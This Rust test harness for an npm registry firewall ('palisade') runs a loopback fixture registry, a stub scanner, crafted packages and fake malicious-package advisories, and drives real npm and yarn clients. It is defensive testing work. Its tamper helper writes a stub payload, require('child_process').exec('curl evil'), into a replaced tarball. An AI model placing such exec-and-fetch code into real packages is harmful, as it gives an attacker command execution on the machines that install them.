//! Test harness: a fixture upstream registry on loopback (recorded real
//! packuments and tarballs plus packages crafted here), the firewall in front
//! of it with an injectable scanner, and helpers to drive real clients.
#![allow(dead_code, reason = "each test file uses part of the harness")]
#![allow(clippy::unwrap_used, reason = "tests: a failed unwrap is a failed test")]

use std::collections::HashMap;
use std::io::Write as _;
use std::net::SocketAddr;
use std::path::{Path, PathBuf};
use std::process::{Command, Output};
use std::sync::atomic::{AtomicBool, AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};

use axum::body::Body;
use axum::http::{HeaderMap, StatusCode, Uri};
use axum::response::Response;
use base64::Engine as _;
use palisade_core::Verdict;
use palisade_proxy::{Firewall, ScanOutcome, Scanner, Settings};
use sha2::Digest as _;
use time::OffsetDateTime;

pub const FIXTURES: &str = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/fixtures/registry");

/// The fixture upstream's state, shared with its handler.
#[derive(Default)]
pub struct UpstreamState {
    /// By escaped request path (`/is-odd`, `/@demo%2fscoped`).
    pub packuments: Mutex<HashMap<String, Vec<u8>>>,
    /// By request path (`/is-odd/-/is-odd-3.0.1.tgz`).
    pub tarballs: Mutex<HashMap<String, Vec<u8>>>,
    pub hits: Mutex<HashMap<String, usize>>,
    pub down: AtomicBool,
    /// Answer this many requests with 503 before serving.
    pub fail_next: AtomicUsize,
    pub authorization: Mutex<Vec<String>>,
}

impl UpstreamState {
    pub fn hits(&self, path: &str) -> usize {
        self.hits.lock().unwrap().get(path).copied().unwrap_or(0)
    }
}

async fn upstream_handler(
    axum::extract::State(state): axum::extract::State<Arc<UpstreamState>>,
    uri: Uri,
    headers: HeaderMap,
) -> Response {
    let path = uri.path().to_string();
    *state.hits.lock().unwrap().entry(path.clone()).or_default() += 1;
    if let Some(auth) = headers.get("authorization").and_then(|v| v.to_str().ok()) {
        state.authorization.lock().unwrap().push(auth.to_string());
    }
    let status = |code: StatusCode| {
        let mut response = Response::new(Body::from("{}"));
        *response.status_mut() = code;
        response
    };
    if state.down.load(Ordering::SeqCst) {
        return status(StatusCode::SERVICE_UNAVAILABLE);
    }
    if state
        .fail_next
        .fetch_update(Ordering::SeqCst, Ordering::SeqCst, |n| n.checked_sub(1))
        .is_ok()
    {
        return status(StatusCode::BAD_GATEWAY);
    }
    if let Some(body) = state.packuments.lock().unwrap().get(&path) {
        let etag = format!("\"{}\"", hex::encode(&sha2::Sha256::digest(body)[..8]));
        if headers.get("if-none-match").and_then(|v| v.to_str().ok()) == Some(etag.as_str()) {
            return status(StatusCode::NOT_MODIFIED);
        }
        let mut response = Response::new(Body::from(body.clone()));
        response.headers_mut().insert("etag", etag.parse().unwrap());
        response
            .headers_mut()
            .insert("content-type", "application/json".parse().unwrap());
        return response;
    }
    if let Some(body) = state.tarballs.lock().unwrap().get(&path) {
        return Response::new(Body::from(body.clone()));
    }
    status(StatusCode::NOT_FOUND)
}

/// A scanner whose verdicts the test sets; clean by default.
#[derive(Default)]
pub struct TestScanner {
    pub verdicts: Mutex<HashMap<String, Verdict>>,
    pub scans: AtomicUsize,
}

impl Scanner for TestScanner {
    fn scan(
        &self,
        name: &str,
        version: &str,
        tarball: &[u8],
        _manifest: Option<&serde_json::Value>,
    ) -> Result<ScanOutcome, String> {
        self.scans.fetch_add(1, Ordering::SeqCst);
        // Slow enough that concurrent requests overlap.
        std::thread::sleep(std::time::Duration::from_millis(50));
        if tarball.len() < 2 || tarball[0] != 0x1f {
            return Err("not a gzip file".into());
        }
        let verdict = self
            .verdicts
            .lock()
            .unwrap()
            .get(&format!("{name}@{version}"))
            .copied()
            .unwrap_or(Verdict::Clean);
        Ok(ScanOutcome {
            verdict,
            score: match verdict {
                Verdict::Clean => 0.0,
                Verdict::Suspicious => 0.5,
                Verdict::Malicious => 1.0,
            },
            summary: format!("test verdict {}", verdict.as_str()),
        })
    }
}

/// A crafted version.
pub struct Version {
    pub version: String,
    pub tarball: Vec<u8>,
    pub published: OffsetDateTime,
    pub scripts: Option<serde_json::Value>,
    pub dependencies: Option<serde_json::Value>,
}

impl Version {
    pub fn new(name: &str, version: &str, days_ago: i64) -> Version {
        Version {
            version: version.to_string(),
            tarball: tgz(name, version, &[("index.js", "module.exports = 1;\n")]),
            published: OffsetDateTime::now_utc() - time::Duration::days(days_ago),
            scripts: None,
            dependencies: None,
        }
    }

    pub fn hours_ago(mut self, hours: i64) -> Version {
        self.published = OffsetDateTime::now_utc() - time::Duration::hours(hours);
        self
    }
}

/// An npm tarball: `package/package.json` plus the given files.
pub fn tgz(name: &str, version: &str, files: &[(&str, &str)]) -> Vec<u8> {
    let manifest = serde_json::json!({"name": name, "version": version, "main": "index.js"}).to_string();
    let mut builder = tar::Builder::new(flate2::write::GzEncoder::new(
        Vec::new(),
        flate2::Compression::default(),
    ));
    let mut add = |path: &str, data: &[u8]| {
        let mut header = tar::Header::new_gnu();
        header.set_size(data.len() as u64);
        header.set_mode(0o644);
        header.set_mtime(0);
        header.set_cksum();
        builder
            .append_data(&mut header, format!("package/{path}"), data)
            .unwrap();
    };
    add("package.json", manifest.as_bytes());
    for (path, data) in files {
        add(path, data.as_bytes());
    }
    let encoder = builder.into_inner().unwrap();
    encoder.finish().unwrap()
}

pub fn sri(bytes: &[u8]) -> String {
    format!(
        "sha512-{}",
        base64::engine::general_purpose::STANDARD.encode(sha2::Sha512::digest(bytes))
    )
}

fn escape(name: &str) -> String {
    name.replace('/', "%2f")
}

fn time_text(time: OffsetDateTime) -> String {
    time.format(&time::format_description::well_known::Rfc3339).unwrap()
}

pub struct Harness {
    pub runtime: tokio::runtime::Runtime,
    pub upstream: Arc<UpstreamState>,
    pub upstream_url: String,
    pub firewall: Arc<Firewall>,
    pub url: String,
    pub scanner: Arc<TestScanner>,
    pub dir: tempfile::TempDir,
    pub admin_token: String,
}

pub struct Options {
    pub toml: String,
    pub malicious: Vec<(String, String)>,
    pub upstream_token: Option<String>,
    pub admin: bool,
    pub packument_max_age: Option<time::Duration>,
    pub max_document: Option<u64>,
    pub max_tarball: Option<u64>,
}

impl Default for Options {
    fn default() -> Self {
        Options {
            toml: String::new(),
            malicious: Vec::new(),
            upstream_token: None,
            admin: true,
            packument_max_age: None,
            max_document: None,
            max_tarball: None,
        }
    }
}

impl Harness {
    pub fn start(options: Options) -> Harness {
        let runtime = tokio::runtime::Builder::new_multi_thread()
            .worker_threads(2)
            .enable_all()
            .build()
            .unwrap();
        let dir = tempfile::tempdir().unwrap();
        let upstream = Arc::new(UpstreamState::default());
        let upstream_addr: SocketAddr = runtime.block_on(async {
            let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            let addr = listener.local_addr().unwrap();
            let app = axum::Router::new()
                .fallback(upstream_handler)
                .with_state(upstream.clone());
            tokio::spawn(async move { axum::serve(listener, app).await });
            addr
        });
        let upstream_url = format!("http://{upstream_addr}/");
        for name in ["is-odd", "is-number"] {
            let body = std::fs::read(Path::new(FIXTURES).join(format!("{name}.json"))).unwrap();
            upstream.packuments.lock().unwrap().insert(format!("/{name}"), body);
        }
        for entry in std::fs::read_dir(FIXTURES).unwrap() {
            let path = entry.unwrap().path();
            let file = path.file_name().unwrap().to_string_lossy().to_string();
            if let Some(stem) = file.strip_suffix(".tgz") {
                let name = stem.rsplit_once('-').unwrap().0.to_string();
                upstream
                    .tarballs
                    .lock()
                    .unwrap()
                    .insert(format!("/{name}/-/{file}"), std::fs::read(&path).unwrap());
            }
        }

        // The advisory database: the embedded baseline plus the test's MAL records.
        let home = dir.path().join("home");
        std::fs::create_dir_all(&home).unwrap();
        if !options.malicious.is_empty() {
            let records = dir.path().join("osv");
            std::fs::create_dir_all(&records).unwrap();
            for (i, (name, version)) in options.malicious.iter().enumerate() {
                let record = serde_json::json!({
                    "id": format!("MAL-2099-{}", 100 + i),
                    "modified": "2026-01-01T00:00:00Z",
                    "published": "2026-01-01T00:00:00Z",
                    "summary": format!("Malicious code in {name} (npm)"),
                    "details": "test record",
                    "affected": [{"package": {"ecosystem": "npm", "name": name}, "versions": [version]}],
                    "database_specific": {"malicious-packages-origins": []}
                });
                std::fs::write(records.join(format!("{i}.json")), record.to_string()).unwrap();
            }
            palisade_advisory::import(&home, &[records], palisade_advisory::ImportOptions::default()).unwrap();
        }
        let database = palisade_advisory::Database::open(&home).unwrap();

        let config = palisade_policy::Config::parse("palisade.toml", &options.toml).unwrap_or_else(|e| panic!("{e}"));
        let mut settings = Settings::new(config);
        if let Some(age) = options.packument_max_age {
            settings.config.serve.packument_max_age = age;
        }
        settings.upstream = upstream_url.clone();
        settings.upstream_token = options.upstream_token.clone();
        let admin_token = "test-admin-token-0123456789".to_string();
        settings.admin_token = options.admin.then(|| admin_token.clone());
        settings.upstream_options.retries = 2;
        settings.upstream_options.backoff = std::time::Duration::from_millis(20);
        settings.upstream_options.timeout = std::time::Duration::from_secs(10);
        if let Some(limit) = options.max_document {
            settings.upstream_options.max_document = limit;
        }
        if let Some(limit) = options.max_tarball {
            settings.upstream_options.max_tarball = limit;
        }
        let (store, blobs) = palisade_proxy::open_storage(&dir.path().join("data")).unwrap();
        let scanner = Arc::new(TestScanner::default());
        let (firewall, addr) = runtime.block_on(async {
            let firewall = Firewall::new(settings, store, blobs, scanner.clone(), database).unwrap();
            let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
            let addr = listener.local_addr().unwrap();
            let served = firewall.clone();
            tokio::spawn(async move { palisade_proxy::serve(listener, served, std::future::pending()).await });
            (firewall, addr)
        });
        Harness {
            runtime,
            upstream,
            upstream_url,
            firewall,
            url: format!("http://{addr}"),
            scanner,
            dir,
            admin_token,
        }
    }

    /// Publishes a crafted package on the fixture upstream.
    pub fn publish(&self, name: &str, versions: Vec<Version>) {
        let mut doc_versions = serde_json::Map::new();
        let mut times = serde_json::Map::new();
        let mut latest = String::new();
        let base = name.rsplit('/').next().unwrap();
        for version in &versions {
            let path = format!("/{name}/-/{base}-{}.tgz", version.version);
            let mut manifest = serde_json::json!({
                "name": name,
                "version": version.version,
                "dist": {
                    "tarball": format!("{}{}", self.upstream_url.trim_end_matches('/'), path),
                    "integrity": sri(&version.tarball),
                    "shasum": hex::encode(sha1_digest(&version.tarball)),
                },
            });
            if let Some(scripts) = &version.scripts {
                manifest["scripts"] = scripts.clone();
            }
            if let Some(dependencies) = &version.dependencies {
                manifest["dependencies"] = dependencies.clone();
            }
            doc_versions.insert(version.version.clone(), manifest);
            times.insert(version.version.clone(), time_text(version.published).into());
            latest = version.version.clone();
            self.upstream
                .tarballs
                .lock()
                .unwrap()
                .insert(path, version.tarball.clone());
        }
        let doc = serde_json::json!({
            "_id": name, "name": name,
            "dist-tags": {"latest": latest},
            "versions": doc_versions,
            "time": times,
        });
        self.upstream
            .packuments
            .lock()
            .unwrap()
            .insert(format!("/{}", escape(name)), doc.to_string().into_bytes());
    }

    /// Replaces a tarball's bytes on the upstream (the packument keeps the old integrity).
    pub fn tamper(&self, name: &str, version: &str) {
        let base = name.rsplit('/').next().unwrap();
        let path = format!("/{name}/-/{base}-{version}.tgz");
        self.upstream.tarballs.lock().unwrap().insert(
            path,
            tgz(
                name,
                version,
                &[("index.js", "require('child_process').exec('curl evil')")],
            ),
        );
    }

    pub fn http(&self) -> reqwest::blocking::Client {
        reqwest::blocking::Client::builder()
            .gzip(false)
            .timeout(std::time::Duration::from_secs(30))
            .build()
            .unwrap()
    }

    pub fn get(&self, path: &str) -> reqwest::blocking::Response {
        self.http().get(format!("{}{path}", self.url)).send().unwrap()
    }

    pub fn admin(&self) -> palisade_proxy::client::AdminClient {
        palisade_proxy::client::AdminClient::new(&self.url, &self.admin_token).unwrap()
    }

    /// A project directory with a package.json depending on `dependencies`.
    pub fn project(&self, label: &str, dependencies: &[(&str, &str)]) -> PathBuf {
        let dir = self.dir.path().join(label);
        std::fs::create_dir_all(&dir).unwrap();
        let deps: serde_json::Map<String, serde_json::Value> = dependencies
            .iter()
            .map(|(n, r)| ((*n).to_string(), serde_json::Value::String((*r).to_string())))
            .collect();
        let manifest = serde_json::json!({"name": "palisade-test-project", "version": "1.0.0", "private": true, "dependencies": deps});
        std::fs::write(dir.join("package.json"), serde_json::to_vec_pretty(&manifest).unwrap()).unwrap();
        // A project .npmrc: only our registry, nothing from the machine's user config.
        let mut npmrc = std::fs::File::create(dir.join(".npmrc")).unwrap();
        writeln!(npmrc, "registry={}/", self.url).unwrap();
        dir
    }
}

fn sha1_digest(bytes: &[u8]) -> Vec<u8> {
    sha1::Sha1::digest(bytes).to_vec()
}

/// Runs a client command in `project` with a per-project cache and config.
pub fn run_client(program: &Path, args: &[&str], project: &Path, registry: &str) -> Output {
    let home = project.join(".home");
    std::fs::create_dir_all(&home).unwrap();
    let empty = project.join(".empty-npmrc");
    std::fs::write(&empty, "").unwrap();
    let empty_global = project.join(".empty-global-npmrc");
    std::fs::write(&empty_global, "").unwrap();
    let mut command = Command::new(program);
    command
        .args(args)
        .current_dir(project)
        .env("HOME", &home)
        .env("npm_config_userconfig", &empty)
        .env("npm_config_globalconfig", &empty_global)
        .env("npm_config_cache", project.join(".npm-cache"))
        .env("npm_config_registry", format!("{registry}/"))
        .env("npm_config_update_notifier", "false")
        .env("npm_config_fund", "false")
        .env("npm_config_audit", "false")
        .env("npm_config_loglevel", "notice")
        .env("npm_config_fetch_retries", "0")
        .env("YARN_CACHE_FOLDER", project.join(".yarn-cache"))
        .env("YARN_ENABLE_TELEMETRY", "0")
        .env("YARN_ENABLE_GLOBAL_CACHE", "0")
        .env("YARN_NPM_REGISTRY_SERVER", registry)
        .env("YARN_UNSAFE_HTTP_WHITELIST", "127.0.0.1")
        .env("YARN_ENABLE_IMMUTABLE_INSTALLS", "0")
        .env("COREPACK_ENABLE_STRICT", "0")
        .env_remove("NODE_OPTIONS");
    command.output().unwrap()
}

pub fn npm_install(project: &Path, registry: &str, extra: &[&str]) -> Output {
    let mut args = vec![
        "install",
        "--ignore-scripts",
        "--prefer-online",
        "--no-audit",
        "--no-fund",
    ];
    args.extend_from_slice(extra);
    run_client(Path::new("npm"), &args, project, registry)
}

pub fn text(output: &Output) -> String {
    format!(
        "exit: {:?}\nstdout:\n{}\nstderr:\n{}",
        output.status.code(),
        String::from_utf8_lossy(&output.stdout),
        String::from_utf8_lossy(&output.stderr)
    )
}

/// A client program, or `None` with the reason printed (a failure under CI=true).
pub fn find_client(name: &str) -> Option<PathBuf> {
    let tools = std::env::var_os("PALISADE_CI_TOOLS")
        .map(PathBuf::from)
        .or_else(|| std::env::var_os("HOME").map(|home| PathBuf::from(home).join(".palisade-ci-tools")));
    let candidates: Vec<PathBuf> = match name {
        "npm" => vec![PathBuf::from("npm")],
        "pnpm" => tools.iter().map(|t| t.join("node_modules/.bin/pnpm")).collect(),
        "yarn" => tools
            .iter()
            .map(|t| t.join("yarn-classic/node_modules/.bin/yarn"))
            .collect(),
        "yarn-berry" => tools
            .iter()
            .map(|t| t.join("yarn-berry/node_modules/@yarnpkg/cli-dist/bin/yarn.js"))
            .collect(),
        _ => Vec::new(),
    };
    for candidate in candidates {
        let works = if candidate.is_absolute() {
            candidate.exists()
        } else {
            Command::new(&candidate)
                .arg("--version")
                .output()
                .is_ok_and(|o| o.status.success())
        };
        if works {
            return Some(candidate);
        }
    }
    let reason = format!(
        "{name} not found (`.ci/run` installs it under $HOME/.palisade-ci-tools; PALISADE_CI_TOOLS points elsewhere)"
    );
    if std::env::var("CI").is_ok_and(|v| v == "true") {
        panic!("{reason}");
    }
    eprintln!("skipped: {reason}");
    None
}

/// The `resolved` URLs of package-lock.json.
pub fn lock_resolved(project: &Path) -> Vec<String> {
    let lock: serde_json::Value =
        serde_json::from_slice(&std::fs::read(project.join("package-lock.json")).unwrap()).unwrap();
    lock["packages"]
        .as_object()
        .unwrap()
        .iter()
        .filter(|(path, _)| !path.is_empty())
        .filter_map(|(_, entry)| entry["resolved"].as_str().map(str::to_string))
        .collect()
}

pub fn installed_version(project: &Path, name: &str) -> Option<String> {
    let manifest: serde_json::Value =
        serde_json::from_slice(&std::fs::read(project.join("node_modules").join(name).join("package.json")).ok()?)
            .ok()?;
    manifest["version"].as_str().map(str::to_string)
}
